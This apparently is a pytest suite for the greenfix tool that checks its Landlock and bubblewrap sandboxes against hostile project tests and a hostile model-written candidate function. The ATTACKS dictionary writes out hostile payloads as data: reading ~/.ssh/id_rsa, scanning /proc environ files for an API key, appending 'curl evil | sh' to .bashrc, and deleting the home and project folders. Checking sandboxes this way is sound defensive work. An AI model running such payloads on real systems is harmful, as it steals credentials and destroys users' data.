"""Hostile tests and hostile model candidates, through `greenfix fix` with a model, under each
sandbox: Landlock (forced with GREENFIX_SANDBOX, bubblewrap installed or not) and bubblewrap.

Each attack is tried twice in one run: by the project's own tests (one test per attack,
passing when the attack was stopped) and by the model's candidate (which returns the right
answer only when every attack was stopped, so a "fixed" function proves the attacks ran).
Outside, the project, a folder beside it and the home folder must be byte-identical, a
listener on 127.0.0.1 must see no connection, and the key must appear nowhere.

With `sandbox = "none"` a model candidate is refused (and the model not even asked) unless
the user opts in; that candidate is harmless: it only writes a marker file.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from greenfix.analysis.testing.sandbox import LANDLOCK_LAUNCHER, SYSTEM_PATHS, bwrap_problem, containment
from tests.ci.projects import GREENFIX, clean_environment, greenfix, write_project
from tests.support.openai_server import ReceivedRequest, Reply, ScriptedOpenAIServer

KEY = "sk-greenfix-redteam-0123456789abcdef"
SSH_KEY = "-----BEGIN FAKE OPENSSH PRIVATE KEY----- greenfix-redteam"
GREETING_TESTS = """\
    from greet import greeting


    def test_greeting():
        assert greeting("Ada") == "Hello, Ada!"
    """

# name -> an expression that is truthy (or None) when the attack got through; OSError means stopped.
ATTACKS = {
    "write_into_the_project": "open(PROJECT + '/greet.py', 'a').write('# owned')",
    "write_beside_the_project": "open(BESIDE + '/notes.txt', 'w').write('owned')",
    "make_a_folder_beside_the_project": "os.mkdir(WORK + '/evil-folder')",
    "write_the_home_folder": "open(HOME + '/.bashrc', 'a').write('curl evil | sh')",
    "read_the_ssh_key": "'PRIVATE KEY' in open(HOME + '/.ssh/id_rsa').read()",
    "read_greenfix_environ": "any(KEY.encode() in open(f'/proc/{pid}/environ', 'rb').read() for pid in greenfix_pids())",
    "find_the_key_in_any_process": "any(KEY.encode() in data for data in environs())",
    "see_the_key_in_its_environment": "KEY in repr(dict(os.environ))",
    "signal_greenfix": "[os.kill(pid, 0) for pid in greenfix_pids()] or False",
    "connect_to_127_0_0_1": "socket.create_connection(('127.0.0.1', PORT), timeout=3).close()",
    # Last: where they get through, the attacks above would find nothing left.
    "delete_the_home_folder": "shutil.rmtree(HOME)",
    "delete_the_project": "shutil.rmtree(PROJECT)",
}
# Helpers both the hostile tests and the hostile candidate use (standard library only).
HELPERS = """\
def greenfix_pids():
    found = []
    for entry in os.listdir('/proc'):
        try:
            if entry.isdigit() and b'greenfix.server' in open(f'/proc/{entry}/cmdline', 'rb').read():
                found.append(int(entry))
        except OSError:
            pass
    return found + ([GREENFIX_PID] if GREENFIX_PID > 0 else [])

def environs():
    for entry in os.listdir('/proc'):
        try:
            yield open(f'/proc/{entry}/environ', 'rb').read()
        except OSError:
            pass

def got_through(attack):
    try:
        return attack() is not False
    except OSError:
        return False
"""


def require(mode: str) -> None:
    found = containment(mode)
    missing = found.kind != mode or (mode == "landlock" and not found.namespaces)
    if missing:
        why = found.why or "Landlock without private namespaces"
        if os.environ.get("CI"):
            pytest.fail(f"CI must have {mode} containment: {why}")
        pytest.skip(f"no {mode} containment here: {why}")


def tree_state(root: Path) -> dict[str, str]:
    """Every file's sha256 and every folder, by path: new, changed or removed entries show."""
    return {
        path.relative_to(root).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "folder"
        for path in sorted(root.rglob("*"))
    }


class Listener:
    """A TCP server on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            self.accepted += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def constants(work: Path, home: Path, port: int, greenfix_pid: int) -> str:
    project, beside = work / "project", work / "beside"
    # The key in two halves: the candidate's text shows up in reports, where the key must not.
    half = len(KEY) // 2
    return (
        f"PROJECT, BESIDE, WORK, HOME = {str(project)!r}, {str(beside)!r}, {str(work)!r}, {str(home)!r}\n"
        f"KEY, PORT, GREENFIX_PID = {KEY[:half]!r} + {KEY[half:]!r}, {port}, {greenfix_pid}\n"
    )


def hostile_tests(work: Path, home: Path, port: int, expected_pid1: str, attacks: dict[str, str] = ATTACKS) -> str:
    """One test per attack, passing when it was stopped, and one that names the sandbox."""
    tests = [f"def test_{name}():\n    assert not got_through(lambda: {attack})\n" for name, attack in attacks.items()]
    tests.append(f"def test_runs_in_the_sandbox_asked_for():\n    assert {expected_pid1!r} in open('/proc/1/cmdline').read()\n")
    # greenfix's pid is not known when the tests are written: they find it by its command line.
    header = "import os, shutil, socket\n\n" + constants(work, home, port, -1) + "\n" + HELPERS
    return header + "\n\n" + "\n\n".join(tests)


def hostile_candidate(work: Path, home: Path, port: int, greenfix_pid: int) -> str:
    """The fixed `greeting`, which answers right only when every attack was stopped."""
    attacks = "".join(f"        ({name!r}, lambda: {attack}),\n" for name, attack in ATTACKS.items())
    body = (
        "import os, shutil, socket\n"
        + constants(work, home, port, greenfix_pid)
        + HELPERS
        + "escaped = [name for name, attack in [\n"
        + attacks
        + "] if got_through(attack)]\n"
        + "return f'Hello, {name}!' if not escaped else 'got through: ' + ', '.join(escaped)\n"
    )
    return "def greeting(name):\n" + textwrap.indent(body, "    ")


def layout(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A project, a folder beside it, and a home folder holding an SSH key."""
    work, home = tmp_path / "work", tmp_path / "home"
    write_project(work / "project", {"greet.py": 'def greeting(name):\n    return "Hello " + name\n', "tests/test_greet.py": GREETING_TESTS})
    write_project(work / "beside", {"notes.txt": "the user's notes\n"})
    write_project(home, {".ssh/id_rsa": SSH_KEY, ".bashrc": "# the user's shell\n"})
    return work, work / "project", home


def model_environment(base_url: str, home: Path, mode: str) -> dict[str, str]:
    return {
        "GREENFIX_MODEL": "scripted-model",
        "GREENFIX_BASE_URL": base_url,
        "GREENFIX_CONSTRAINT": "none",
        "GREENFIX_RETRIES": "0",
        "GREENFIX_SANDBOX": mode,
        "OPENAI_API_KEY": KEY,
        "HOME": str(home),
    }


def fix_under_attack(tmp_path: Path, mode: str, listener: Listener) -> tuple[dict, str, dict, dict]:
    """Run `greenfix fix` on a project whose tests and model candidate attack; the report,
    everything greenfix printed, and the state of the user's folders before and after."""
    work, project, home = layout(tmp_path)
    write_project(project, {"tests/test_attacks.py": hostile_tests(work, home, listener.port, "landlock_launch.py" if mode == "landlock" else "bwrap")})
    before = {"work": tree_state(work), "home": tree_state(home)}
    process: subprocess.Popen[str] | None = None

    def answer(request: ReceivedRequest) -> Reply:
        assert process is not None
        code = hostile_candidate(work, home, listener.port, process.pid)
        return Reply.text(f"```python\n{code}```")

    with ScriptedOpenAIServer(answer) as server:
        process = subprocess.Popen(
            [*GREENFIX, "fix", "--format", "json", "--budget", "120", "--max-model-calls", "1"],
            cwd=project,
            env=clean_environment(model_environment(server.base_url, home, mode)),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        stdout, stderr = process.communicate(timeout=240)
        asked = len(server.chat_requests)
    after = {"work": tree_state(work), "home": tree_state(home)}
    assert asked == 1, stderr
    return json.loads(stdout), stdout + stderr, before, after


@pytest.mark.parametrize("mode", ["landlock", "bwrap"])
def test_hostile_tests_and_candidates_change_nothing_outside_and_see_no_key(tmp_path: Path, mode: str, listener: Listener) -> None:
    require(mode)
    report, printed, before, after = fix_under_attack(tmp_path, mode, listener)
    # Every attack was stopped, as the project's tests saw it...
    attacks = {nodeid.split("::")[1]: outcome for nodeid, outcome in report["tests"]["before"].items() if "test_attacks" in nodeid}
    assert attacks == {f"test_{name}": "passed" for name in ATTACKS} | {"test_runs_in_the_sandbox_asked_for": "passed"}
    # ...and as the model's candidate did: it passes only when none got through.
    (greeting,) = report["functions"]
    assert (greeting["function"], greeting["status"], greeting["proposer"]) == ("greeting", "fixed", "model")
    # And as the user sees it: nothing changed, nothing connected, no key anywhere.
    assert after == before
    assert listener.accepted == 0
    assert KEY not in printed


def doctor(tmp_path: Path, **env: str) -> str:
    done = greenfix(tmp_path, "check", "--doctor", env=env)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_doctor_says_what_a_test_can_do_under_landlock(tmp_path: Path) -> None:
    require("landlock")
    said = doctor(tmp_path, GREENFIX_SANDBOX="landlock")
    assert "sandbox: Landlock (ABI " in said
    assert "write only the shadow copy and their run folder; no network (private namespace)" in said


def test_doctor_says_what_a_test_can_do_uncontained(tmp_path: Path) -> None:
    said = doctor(tmp_path, GREENFIX_SANDBOX="none", GREENFIX_MODEL="scripted-model")
    assert "tests and candidates can read, change and delete anything you can, and reach the network" in said
    assert "model candidates were not run" in said and "apt install bubblewrap" in said


HARMLESS = "def greeting(name):\n    open({marker!r}, 'w').write('ran')\n    return f'Hello, {{name}}!'\n"


@pytest.mark.parametrize("opt_in", [False, True])
def test_without_containment_model_candidates_run_only_when_the_user_opts_in(tmp_path: Path, opt_in: bool) -> None:
    work, project, home = layout(tmp_path)
    marker = tmp_path / "the-model-candidate-ran"
    reply = Reply.text(f"```python\n{HARMLESS.format(marker=str(marker))}```")
    with ScriptedOpenAIServer([reply]) as server:
        flags = ["--allow-unsandboxed-model-code"] if opt_in else []
        done = greenfix(project, "fix", "--format", "json", "--max-model-calls", "1", *flags,
                        env=model_environment(server.base_url, home, "none"))
        asked = len(server.chat_requests)
    report = json.loads(done.stdout)
    (greeting,) = report["functions"]
    if opt_in:
        assert (greeting["status"], greeting["proposer"], asked) == ("fixed", "model", 1)
        assert marker.read_text() == "ran"
        return
    assert (greeting["status"], asked) == ("unfixed", 0)
    assert not marker.exists()
    (refusal,) = [note for note in report["notes"] if "model candidates were not run" in note]
    assert "apt install bubblewrap" in refusal and "--allow-unsandboxed-model-code" in refusal
    assert "allow_unsandboxed_model_code = true" in refusal


def test_bubblewrap_is_the_default_where_it_works() -> None:
    if bwrap_problem() is not None:
        pytest.skip(f"no bubblewrap here: {bwrap_problem()}")
    assert containment("auto").kind == "bwrap"


def test_uncontained_the_same_attacks_get_through(tmp_path: Path, listener: Listener) -> None:
    """The attacks above are real: with nothing containing them, they do their damage (in
    tmp_path, with a fake home), all but seeing the key in the environment, which is scrubbed.
    The project itself is spared: greenfix cannot finish a run whose project is deleted."""
    work, project, home = layout(tmp_path)
    attacks = {name: attack for name, attack in ATTACKS.items() if name != "delete_the_project"}
    write_project(project, {"tests/test_attacks.py": hostile_tests(work, home, listener.port, "bwrap", attacks)})
    done = greenfix(project, "fix", "--format", "json", "--tests", "tests/test_attacks.py",
                    env={"GREENFIX_SANDBOX": "none", "OPENAI_API_KEY": KEY, "HOME": str(home)})
    report = json.loads(done.stdout)
    stopped = {nodeid.split("::")[1] for nodeid, outcome in report["tests"]["before"].items() if outcome == "passed"}
    assert stopped == {"test_see_the_key_in_its_environment"}
    assert (project / "greet.py").read_text().endswith("# owned") and not home.exists()
    assert (work / "beside" / "notes.txt").read_text() == "owned" and (work / "evil-folder").is_dir()
    assert listener.accepted > 0


def test_an_unknown_sandbox_mode_is_a_configuration_error(tmp_path: Path) -> None:
    work, project, home = layout(tmp_path)
    done = greenfix(project, "fix", "--format", "json", env={"GREENFIX_SANDBOX": "chroot"})
    report = json.loads(done.stdout)
    assert (done.returncode, report["status"]) == (2, "error")
    assert "GREENFIX_SANDBOX must be one of auto, bwrap, landlock, none, not 'chroot'" in report["message"]


def test_landlock_alone_without_namespaces_still_stops_the_attacks(tmp_path: Path, listener: Listener) -> None:
    """Where user namespaces are not allowed, the launcher restricts itself with Landlock only
    (TCP denied by Landlock, signals scoped): driven here through its documented SPEC."""
    require("landlock")
    work, project, home = layout(tmp_path)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    interpreter = {sys.prefix, sys.base_prefix, os.path.dirname(os.path.realpath(sys.executable))}
    spec = {
        "read": [*SYSTEM_PATHS, *interpreter, "/proc"], "write": [str(scratch)], "devices": ["/dev/null"],
        "scratch": str(scratch), "namespaces": False, "cover": [],
    }
    before = {"work": tree_state(work), "home": tree_state(home)}
    # A process of the user's holding the key, as greenfix would.
    victim = subprocess.Popen(["sleep", "60"], env={"OPENAI_API_KEY": KEY})
    try:
        attack = hostile_candidate(work, home, listener.port, victim.pid) + "\nprint(greeting('Ada'))\n"
        done = subprocess.run(
            [sys.executable, "-I", "-S", str(LANDLOCK_LAUNCHER), json.dumps(spec), "--", sys.executable, "-I", "-c", attack],
            cwd=scratch, env={"PATH": os.environ["PATH"]}, capture_output=True, text=True, timeout=60,
        )
    finally:
        victim.kill()
        victim.wait()
    assert (done.returncode, done.stdout) == (0, "Hello, Ada!\n"), done.stderr
    assert {"work": tree_state(work), "home": tree_state(home)} == before
    assert listener.accepted == 0
